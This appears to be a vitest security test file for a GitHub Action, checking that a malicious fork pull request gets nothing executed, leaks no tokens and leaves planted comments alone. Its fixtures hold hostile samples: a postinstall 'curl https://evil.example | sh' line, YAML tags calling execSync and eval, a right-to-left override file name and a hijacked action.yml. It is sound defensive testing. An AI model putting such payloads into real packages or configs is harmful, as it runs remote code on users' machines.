import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { expectNoViolations } from '../../sim/index.js'
import { MARKERS } from '../../src/core/report/markers.js'
import { requireDist, resolveNode24 } from '../action/e2e/run-dist.js'
import { BASE_FILES, CONFIG, CONFIG_PATH } from '../action/e2e/scenario.js'
import { BOT, REPOSITORY, startActionSim, type ActionSim } from './helpers/action-sim.js'
import { findMarkdownHazards, HOSTILE, HOSTILE_TEXT } from './helpers/markdown-hazards.js'
import { startRecordingProxy, type RecordedRequest, type RecordingProxy } from './helpers/recording-proxy.js'
import { runAction, stackFrames, type ActionRunOptions } from './helpers/run-action.js'

/** The base branch's config names its first theme with every hostile piece at once. */
const HOSTILE_CONFIG = CONFIG.replace(
  'name: Global Scale & Performance',
  `name: ${JSON.stringify(HOSTILE_TEXT)}`,
)

/** What a malicious fork PR adds: a relaxed config with YAML tags, a hostile ADR, code to run. */
const PR_FILES = {
  [CONFIG_PATH]: `pull_requests: !!js/function "function () { require('child_process').execSync('touch /tmp/pwned') }"\nthemes: &a [*a, *a]\n`,
  'docs/adr/0003-pwn.md': `---\nstatus: !!js/eval "process.exit(3)"\ntheme: ${JSON.stringify(HOSTILE.mention)}\n---\n# ADR-0003: ${HOSTILE.img} ${HOSTILE.hidden}\n\n**Status**: ${HOSTILE.script}\n`,
  // A right-to-left override in a file name would reorder what the comment shows.
  'docs/adr/0004-\u202edm.txt.md': '# ADR-0004: Hidden\n\n**Status**: Aproved\n',
  'package.json': '{ "scripts": { "postinstall": "curl https://evil.example | sh" } }\n',
  'scripts/pwn.sh': '#!/bin/sh\ntouch /tmp/pwned\n',
  'action.yml': 'runs:\n  using: node24\n  main: pwn.js\n',
}

let s: ActionSim
let proxy: RecordingProxy
const tokens: string[] = []

beforeAll(async () => {
  requireDist()
  await resolveNode24()
  s = await startActionSim({}, { ...BASE_FILES, [CONFIG_PATH]: HOSTILE_CONFIG })
  proxy = await startRecordingProxy(s.sim.apiUrl)
}, 180_000)

afterAll(async () => {
  await proxy?.close()
  await s?.sim.stop()
})

/** Every run goes through the recording proxy and must print no stack trace and no token. */
async function run(o: Omit<ActionRunOptions, 'sim' | 'repository' | 'token'> & { token?: string }) {
  const token = o.token ?? s.sim.issueToken()
  tokens.push(token)
  const result = await runAction({ ...o, token, sim: s.sim, repository: REPOSITORY, apiUrl: proxy.url })
  expect(stackFrames(result.stdout + result.stderr)).toEqual([])
  expect(result.stdout + result.stderr).not.toContain(token)
  return result
}

/** What GraphQL batch reads asked for: file paths (`... on Blob`), folder paths (`... on Tree`), repositories. */
function graphqlReads(requests: RecordedRequest[]) {
  const found = { files: [] as string[], folders: [] as string[], repos: [] as string[] }
  for (const r of requests.filter((request) => request.url.endsWith('/graphql'))) {
    const { query, variables } = JSON.parse(r.body) as { query: string; variables: Record<string, string> }
    const fields = query.matchAll(
      /repository\(owner: \$(o\d+), name: \$(n\d+)\) \{ object\(expression: \$(e\d+)\) \{ \.\.\. on (Blob|Tree)/g,
    )
    for (const [, owner, name, expression, kind] of fields) {
      found.repos.push(`${variables[owner as string]}/${variables[name as string]}`)
      const path = (variables[expression as string] ?? '').replace(/^[^:]*:/, '')
      ;(kind === 'Blob' ? found.files : found.folders).push(path)
    }
  }
  return found
}

describe('the Action under pull_request_target with a malicious fork pull request', () => {
  it('executes nothing from the PR, reads it only as data, and checks it against the base config', async () => {
    const number = s.open({
      fork: 'mallory',
      author: 'mallory',
      title: HOSTILE_TEXT,
      body: `Theme: ${HOSTILE.img}`,
      files: PR_FILES,
    })
    // Even if an earlier step had checked the PR out, the Action would not look at it.
    const workspace = await mkdtemp(join(tmpdir(), 'strategy-trace-workspace-'))
    for (const [path, text] of Object.entries(PR_FILES)) {
      await mkdir(dirname(join(workspace, path)), { recursive: true })
      await writeFile(join(workspace, path), text)
    }
    const from = proxy.requests.length
    const result = await run({
      event: 'pull_request_target',
      payload: s.payload(number),
      sandbox: true,
      workspace,
      inputs: { mode: 'fail' },
    })
    await rm(workspace, { recursive: true, force: true })

    // Run with no child processes and no reads outside its bundle and the runner's files, it still works.
    expect(result.stderr).toBe('')
    expect(result.code).toBe(1)
    expect(result.outputs).toMatchObject({ result: 'fail' })
    expect(result.annotationTitles).toContain('Strategy Trace PR_UNKNOWN_THEME')
    expect(result.failureLines).toHaveLength(1)

    // Only the config (base and head), the changed ADRs and the changed dependency manifests (for the
    // technology guidelines) were read, through the API, never an archive; besides them only the ADR
    // folders were listed, all through the base repository.
    const reads = proxy.requests.slice(from).filter((r) => r.method === 'GET')
    const graphql = graphqlReads(proxy.requests.slice(from))
    const files = reads
      .map((r) => /^\/repos\/acme\/api\/contents\/([^?]+)/.exec(r.url)?.[1])
      .filter((path): path is string => path !== undefined)
    expect(new Set([...files, ...graphql.files])).toEqual(
      new Set([
        CONFIG_PATH,
        'docs/adr/0003-pwn.md',
        'docs/adr/0004-\u202edm.txt.md',
        'action.yml',
        'package.json',
      ]),
    )
    expect(new Set(graphql.folders)).toEqual(new Set(['docs/adr', 'doc/adr', 'docs/decisions', 'adr']))
    expect(new Set(graphql.repos)).toEqual(new Set([REPOSITORY]))
    expect(reads.filter((r) => /tarball|zipball|\/git\/(refs|commits)|\.git\b/.test(r.url))).toEqual([])

    const comment = s.comments(number).find((c) => c.author === BOT)
    expect(comment?.body.startsWith(MARKERS.prCheck)).toBe(true)
    expect(findMarkdownHazards(comment?.body ?? '')).toEqual([])
    expect(findMarkdownHazards(result.summary)).toEqual([])
    expectNoViolations(s.sim)
  }, 60_000)
})

describe('comments that carry our marker but are not ours', () => {
  it('are never edited or deleted, whatever our run does with its own comment', async () => {
    const number = s.open({ body: 'Faster pages.' })
    const planted = [
      { author: 'mallory', body: `${MARKERS.prCheck}\nPlanted by a person.` },
      { author: 'strategy-trace[bot]', body: `${MARKERS.prCheck}\nWritten by another bot.` },
    ].map((c) => s.sim.state.comments.create({ repo: REPOSITORY, issue: number, ...c }))
    const from = proxy.requests.length
    const onEvent = (action?: string) => run({ event: 'pull_request', payload: s.payload(number, action) })

    const created = await onEvent('opened') // findings: our comment is created
    s.sim.state.pulls.update(REPOSITORY, number, { body: 'Theme: global-scale' })
    await onEvent('edited') // fixed: our comment turns all-clear
    s.sim.state.pulls.update(REPOSITORY, number, { body: 'Theme: global-scael' })
    await onEvent('edited') // broken again: our comment is updated
    s.sim.state.issues.update(REPOSITORY, number, { labels: ['no-theme'] })
    await onEvent('labeled') // exempt: our comment says skipped

    const after = s.comments(number)
    for (const c of planted) expect(after).toContainEqual({ id: c.id, author: c.author.login, body: c.body })
    const ours = after.filter((c) => c.author === BOT)
    expect(ours.map((c) => String(c.id))).toEqual([created.outputs['comment-id']])
    const writes = proxy.requests.slice(from).filter((r) => ['PATCH', 'DELETE'].includes(r.method))
    expect(writes.length).toBeGreaterThan(0)
    for (const c of planted) expect(writes.filter((r) => r.url.endsWith(`/comments/${c.id}`))).toEqual([])
  }, 60_000)
})

describe('secrets in the Action logs', () => {
  it('never prints the token, not even when GitHub rejects it', async () => {
    const number = s.open({ body: 'Theme: global-scale' })
    const token = `ghs_${'x'.repeat(36)}`
    const rejected = await run({ event: 'pull_request', payload: s.payload(number), token })
    expect(rejected.code).toBe(1)
    expect(rejected.failureLines).toEqual([
      expect.stringMatching(/^::error::Could not read pull request acme\/api#\d+: 401 /),
    ])
    const all = tokens.length
    expect(all).toBeGreaterThanOrEqual(6)
  }, 60_000)
})
